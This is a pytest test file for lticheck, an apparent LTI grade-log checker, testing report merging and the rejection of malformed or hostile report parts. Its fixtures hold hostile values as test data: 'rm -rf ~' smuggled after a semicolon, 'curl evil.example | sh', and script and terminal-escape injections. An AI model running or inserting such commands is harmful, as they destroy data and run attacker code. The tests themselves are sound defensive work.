"""Parts add up: merged in any order, they say what one run over all would have said."""

from __future__ import annotations

import json
import random
from collections.abc import Callable
from pathlib import Path
from tempfile import TemporaryDirectory
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from lticheck.cli import run
from lticheck.formats import FORMATS
from lticheck.model.exit_status import ExitStatus
from lticheck.rules.ags_examples import posted, service
from tests.cli.posts import LEFT, REMOVED, Post, write_log
from tests.cli.runner import Lticheck
from tests.report_schema import SCHEMA

KEY = "one key for all of the parts"
OFFLINE = ("diagnose", "--offline")
POSTS = st.builds(
    Post,
    said=st.sampled_from(["", "", REMOVED, LEFT]),
    student=st.integers(1, 4),
    work=st.integers(7, 8),
    score=st.sampled_from(["0.5", "0,5"]),
    at=st.sampled_from(["2026-11-20T08:00:00Z", "2026-11-20T09:30:00+02:00", "no time"]),
)
FILES = st.lists(st.lists(POSTS, max_size=8), min_size=1, max_size=5)


def written(to: Path, *arguments: str) -> int:
    """Run lticheck, and have it write a file."""
    return int(run([*arguments, "-q", "--output", str(to)]))


@settings(suppress_health_check=[HealthCheck.function_scoped_fixture], max_examples=15)
@given(
    files=FILES,
    order=st.randoms(use_true_random=False),
    ending=st.sampled_from(["json", "html", "txt", "md"]),
)
def test_parts_cut_at_file_ends_are_the_whole(
    files: list[list[Post]],
    order: random.Random,
    ending: str,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    """In each format that people or programs read, with the same exit status."""
    monkeypatch.setenv("LTICHECK_HASH_KEY", KEY)
    with TemporaryDirectory() as name:
        folder = Path(name)
        logs = [write_log(folder / f"{n}.log", *posts) for n, posts in enumerate(files)]
        status = written(folder / f"whole.{ending}", *OFFLINE, *logs)
        shares = [logs[start::2] for start in range(2)]
        parts = [folder / "a.jsonl", folder / "b.jsonl"]
        for part, share in zip(parts, shares, strict=True):
            if share:
                written(part, *OFFLINE, *share)
        named = [str(part) for part in parts if part.exists()]
        order.shuffle(named)
        merged = written(folder / f"merged.{ending}", "report", *named)
        capsys.readouterr()
        texts = [(folder / f"{one}.{ending}").read_text() for one in ("merged", "whole")]
    assert texts[0] == texts[1]
    assert merged == status


@pytest.mark.parametrize("ending", ["html", "sarif"])
def test_a_part_tells_which_version_a_finding_is_about(ending: str, tmp_path: Path) -> None:
    """The page's causes and SARIF's help are those of LTI 1.3, as in the run that wrote it."""
    said = "Access Token not linked to a Tool associated with this Context"
    capture = tmp_path / "x.http"
    capture.write_text(posted(401, service(said, "unauthorized")).capture, encoding="utf-8")
    part, merged = tmp_path / "a.jsonl", tmp_path / f"b.{ending}"
    written(part, *OFFLINE, str(capture))
    written(merged, "report", str(part))
    text = merged.read_text(encoding="utf-8")
    assert "It is installed only in another course" in text
    assert "It was removed and added again" not in text


@pytest.fixture
def parts(lticheck: Lticheck, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> list[Path]:
    """Return two parts of three logs, and leave what one run says beside them, as `whole`."""
    monkeypatch.setenv("LTICHECK_HASH_KEY", KEY)
    monkeypatch.chdir(tmp_path)
    write_log(Path("a.log"), *(Post(REMOVED, student=n) for n in range(15)))
    write_log(Path("b.log"), Post(), Post(LEFT, student=3), Post(REMOVED, score="0.9"))
    write_log(Path("c.log"), *(Post(REMOVED, student=n) for n in range(9, 30)))
    made = [tmp_path / "one.jsonl", tmp_path / "two.jsonl"]
    for part, logs in zip(made, (["a.log", "c.log"], ["b.log"]), strict=True):
        part.write_text(lticheck(*OFFLINE, "--format", "jsonl", *logs).stdout)
    return made


WHOLE = (*OFFLINE, "a.log", "b.log", "c.log")


@pytest.mark.parametrize("name", sorted(FORMATS))
def test_every_format_says_what_one_run_says(
    name: str, parts: list[Path], lticheck: Lticheck
) -> None:
    options = ("--format", name, "--by", "assignment", "--fail-on", "wrong-secret")
    expected = lticheck(*WHOLE, *options)
    merged = lticheck("report", "two.jsonl", "one.jsonl", *options)
    assert (merged.stdout, merged.status) == (expected.stdout, expected.status)


def test_a_report_of_reports_is_the_same(parts: list[Path], lticheck: Lticheck) -> None:
    """And parts that were written one after the other are one part."""
    Path("merged.jsonl").write_text(
        lticheck("report", "--format", "jsonl", *map(str, parts)).stdout
    )
    Path("joined.jsonl").write_text("".join(part.read_text() for part in reversed(parts)))
    expected = lticheck(*WHOLE).stdout
    assert lticheck("report", "merged.jsonl").stdout == expected
    assert lticheck("report", "joined.jsonl").stdout == expected


def test_time_can_be_chosen_afterwards(parts: list[Path], lticheck: Lticheck) -> None:
    run = lticheck("report", "one.jsonl", "--until", "2026-11-01")
    assert "0 checked" in run.stdout
    assert run.status == ExitStatus.NOTHING_RECOGNISED


def test_parts_of_two_keys_are_told(
    parts: list[Path], lticheck: Lticheck, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("LTICHECK_HASH_KEY", "another key for this part")
    Path("other.jsonl").write_text(lticheck(*OFFLINE, "--format", "jsonl", "b.log").stdout)
    run = lticheck("report", "one.jsonl", "other.jsonl")
    assert run.status == ExitStatus.FINDINGS
    assert "different hash keys" in run.stderr
    assert "who is in two parts counts twice" in run.stdout
    assert "LTICHECK_HASH_KEY" in run.stderr


def changed(change: Callable[[list[dict[str, Any]]], object]) -> Callable[[str], str]:
    """Return what a part becomes whose lines are changed."""

    def made(text: str) -> str:
        lines = [json.loads(line) for line in text.splitlines()]
        change(lines)
        return "".join(json.dumps(line) + "\n" for line in lines)

    return made


def setting(*path: str, value: object) -> Callable[[str], str]:
    """Return what a part becomes in whose first line one value is another."""

    def change(lines: list[dict[str, Any]]) -> None:
        inner: Any = lines[0]
        for name in path[:-1]:
            inner = inner[int(name) if name.isdigit() else name]
        inner[path[-1]] = value

    return changed(change)


BROKEN: dict[str, tuple[Callable[[str], str], str]] = {
    "cut at a line": (lambda text: text.rpartition("\n{")[0] + "\n", "cut off"),
    "cut in a line": (lambda text: text[:-20], "no JSON"),
    "empty": (lambda _: "", "cut off"),
    "no JSON": (lambda text: text + "{\n", "no JSON"),
    "a list": (lambda text: text + "[]\n", "version 1"),
    "another program's": (lambda text: text + '{"level": "info"}\n', "version 1"),
    "nested": (lambda text: text + "[" * 100_000 + "\n", "no JSON"),
    "digits": (lambda text: text + '{"schema_version": ' + "9" * 5000 + "}\n", "no JSON"),
    "a missing line": (lambda text: text.partition("\n")[2], "does not fit"),
    "a line twice": (lambda text: text.partition("\n")[0] + "\n" + text, "does not fit"),
    "a forged count": (changed(lambda all_: all_[-1]["summary"].update(diagnoses=99)), "diagnoses"),
    "a forged verdict": (setting("verdict", value="ok"), "does not fit"),
    "no verdict": (setting("verdict", value="fine"), "no verdict"),
    "a verdict of another type": (setting("verdict", value=["ok"]), "no text"),
    "a rule that commands": (setting("findings", "0", "rule", value="x; rm -rf ~"), "rule"),
    "findings as a text": (setting("findings", value="none"), "no list"),
    "a finding as a text": (setting("findings", value=["none"]), "not an object"),
    "a line below 0": (setting("location", "line", value=-1), "whole number"),
    "a line as a float": (setting("location", "line", value=1.5), "whole number"),
    "a huge line": (setting("location", "line", value=10**30), "whole number"),
    "a hash that is none": (setting("post", "student", value="Kim Sample"), "student"),
    "no hash": (setting("post", "id", value=""), "id"),
    "a time that is none": (setting("post", "time", value="soon"), "time"),
    "arrived as a text": (setting("post", "arrived", value="yes"), "true"),
    "a course as a text": (setting("post", "course", value="Biology"), "not an object"),
    "a command of its own": (setting("next_command", value="curl evil.example | sh"), "command"),
    "two commands": (setting("next_command", value="lticheck x; rm -rf ~"), "command"),
}


@pytest.mark.parametrize("name", BROKEN)
def test_a_part_that_is_not_whole_is_a_fact_and_costs_no_other(
    name: str, parts: list[Path], lticheck: Lticheck
) -> None:
    change, said = BROKEN[name]
    parts[0].write_text(change(parts[0].read_text()))
    run = lticheck("report", "one.jsonl", "two.jsonl")
    assert run.status == ExitStatus.USAGE
    assert run.stderr.startswith("lticheck: one.jsonl: ")
    assert said in run.stderr
    assert "3 checked: 2 with a problem, 1 without a finding" in run.stdout


def test_a_line_without_end_is_not_read_whole(
    parts: list[Path], lticheck: Lticheck, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("lticheck.formats.parts.LONGEST", 1000)
    run = lticheck("report", *map(str, parts))
    assert (run.status, run.stdout) == (ExitStatus.USAGE, "")
    assert "a line of over" in run.stderr


def test_a_part_named_twice_counts_once(parts: list[Path], lticheck: Lticheck) -> None:
    run = lticheck("report", "two.jsonl", "./two.jsonl")
    assert run.status == ExitStatus.USAGE
    assert "named twice" in run.stderr
    assert "3 checked" in run.stdout


@pytest.mark.parametrize("name", ["missing.jsonl", "."])
def test_a_part_that_cannot_be_read_is_said(
    name: str, parts: list[Path], lticheck: Lticheck
) -> None:
    run = lticheck("report", name, "two.jsonl")
    assert run.status == ExitStatus.USAGE
    assert f"lticheck: {name}: cannot read it" in run.stderr
    assert "3 checked" in run.stdout


def test_hostile_texts_of_a_part_are_text(parts: list[Path], lticheck: Lticheck) -> None:
    """A title with markup and escapes is drawn as text in each format."""
    hostile = "<script>alert(1)</script>\x1b[31m\x9b1m\u202e\ud800\n::error::x"
    parts[1].write_text(setting("findings", value=[])(parts[1].read_text()))
    lines = [json.loads(line) for line in parts[0].read_text().splitlines()]
    for line in lines[:-1]:
        line["findings"][0]["title"] = hostile
        line["post"]["course"]["title"] = hostile
    parts[0].write_text("".join(json.dumps(line) + "\n" for line in lines))
    page = lticheck("report", "one.jsonl", "--format", "html").stdout
    assert "<script>" not in page
    assert "alert(1)" in page
    text = lticheck("report", "one.jsonl").stdout
    assert "\x1b" not in text
    assert not any(line.startswith("::") for line in text.splitlines())


@pytest.mark.parametrize("name", ["json", "jsonl", "sarif", "github", "junit", "markdown"])
def test_a_part_draws_nothing_in_any_format(
    name: str, parts: list[Path], lticheck: Lticheck
) -> None:
    """JSON leaves C1 controls and bidirectional marks as they are: a reader makes texts visible."""
    hostile = "title \x9b1m \u202e \u2066 \x1b[31m end"
    lines = [json.loads(line) for line in parts[0].read_text().splitlines()]
    for line in lines[:-1]:
        line["findings"][0]["title"] = line["findings"][0]["message"] = hostile
        line["post"]["tool"] = hostile
        line["location"]["file"] = hostile
    parts[0].write_text("".join(json.dumps(line) + "\n" for line in lines))
    shown = lticheck("report", "one.jsonl", "--full", "--format", name).stdout
    assert "title" in shown
    assert not set(shown) & set("\x9b\u202e\u2066\x1b")


def test_the_schema_tells_of_the_last_line(parts: list[Path]) -> None:
    last = json.loads(parts[0].read_text().splitlines()[-1])
    assert set(last["summary"]) == set(SCHEMA["$defs"]["summary"]["properties"])
